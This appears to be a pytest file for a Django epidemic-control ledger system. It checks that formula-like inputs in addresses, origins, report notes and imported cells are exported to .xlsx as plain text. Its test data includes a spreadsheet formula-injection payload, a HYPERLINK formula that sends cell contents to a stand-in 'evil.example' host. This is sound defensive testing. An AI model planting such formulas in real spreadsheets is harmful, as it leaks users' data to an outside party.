"""Text that looks like a formula (=HYPERLINK(…), +…, -…, @…) typed into an address, an origin, a
daily-report note or an imported ledger cell comes back from every export as the same characters in a
text cell, never as a live formula: each produced .xlsx is read back with openpyxl."""

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fangkong.checkpoints import actions as checkpoint_actions
from fangkong.checkpoints.ledgers import HEADERS as PASSAGE_HEADERS
from fangkong.checkpoints.ledgers import export_passages
from fangkong.checkpoints.models import CheckpointKind, Direction
from fangkong.imports.tests.sheets import STANDARD, id_number, row
from fangkong.measures.ledgers import (
    export_returnees,
    export_temperature,
    import_returnees,
    rejected_rows_workbook,
)
from fangkong.measures.models import Measure
from fangkong.reporting import actions as daily_actions
from fangkong.reporting.ledgers import export_daily
from fangkong.reporting.tests.daily_fixtures import D, at, clock, units

__all__ = ["units"]

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
SUM = "@SUM(1,2)"
PLUS = "+86 138 0000 0000"


def cells(content: bytes) -> list:
    return [c for r in load_workbook(io.BytesIO(content)).active.iter_rows() for c in r]


def assert_text_only(content: bytes, *expected: str) -> None:
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    values = [c.value for c in found]
    for text in expected:
        assert text in values, text
        assert all(c.data_type == "s" for c in found if c.value == text)


def ledger_csv(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(STANDARD)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


RECENT = timezone.localdate() - dt.timedelta(days=2)


@pytest.fixture
def imported(world):
    data = ledger_csv(
        [
            row(
                姓名="张三",
                身份证号=id_number(11),
                联系电话="13812345678",
                现住址=LINK,
                从何地返回=SUM,
                返回时间=f"{RECENT:%Y-%m-%d}",
                管控措施="居家隔离",
                备注=PLUS,
            )
        ]
    )
    result = import_returnees(actor=world.grid07_worker, node=world.grid07, data=data, filename="l.csv")
    assert result.written and result.created == 1
    return result


@pytest.mark.django_db
def test_it_writes_an_address_and_origin_like_a_formula_as_text_in_the_returnee_ledger(world, imported):
    _name, content = export_returnees(actor=world.grid07_worker, node=world.grid07)
    assert_text_only(content, LINK, SUM, PLUS)


@pytest.mark.django_db
def test_it_writes_an_address_like_a_formula_as_text_in_the_temperature_ledger(world, imported):
    measure = Measure.objects.get(person__name="张三")
    _name, content = export_temperature(actor=world.grid07_worker, measure=measure)
    assert_text_only(content, LINK)


@pytest.mark.django_db
def test_it_writes_a_passage_origin_like_a_formula_as_text_in_the_passage_ledger(world):
    gate = checkpoint_actions.create_checkpoint(
        actor=world.township_admin, node=world.village, name="前屯村南口", kind=CheckpointKind.GATE
    )
    checkpoint_actions.record_passage(
        actor=world.township_admin,
        checkpoint=gate,
        direction=Direction.IN,
        plate="鲁P12345",
        origin=LINK,
        destination=SUM,
        purpose="-1+2",
    )
    _name, content = export_passages(actor=world.township_admin, checkpoint=gate, day=timezone.localdate())
    assert_text_only(content, LINK, SUM, "-1+2")
    assert list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))[2] == PASSAGE_HEADERS


@pytest.mark.django_db
def test_it_writes_a_daily_report_note_like_a_formula_as_text_in_the_daily_export(world, units):
    with clock(at(D, "09:00")):
        daily_actions.submit_report(
            actor=units["qian_staff"],
            reporting_unit=units["qian"],
            day=D,
            activities={"meetings": 1},
            note=LINK,
        )
    with clock(at(D + dt.timedelta(days=1), "09:00")):
        _name, content = export_daily(actor=world.township_admin, node=world.township, start=D, end=D)
    assert_text_only(content, LINK)


@pytest.mark.django_db
def test_it_writes_imported_cells_like_formulas_as_text_in_the_rejected_rows_workbook(world):
    bad = id_number(11)[:-1] + ("0" if id_number(11)[-1] != "0" else "1")
    data = ledger_csv([row(姓名="张三", 身份证号=bad, 现住址=LINK, 从何地返回="\t=1+1", 备注=SUM)])
    content = rejected_rows_workbook(data=data, filename="l.csv")
    assert content is not None
    assert_text_only(content, LINK, SUM, "\t=1+1")
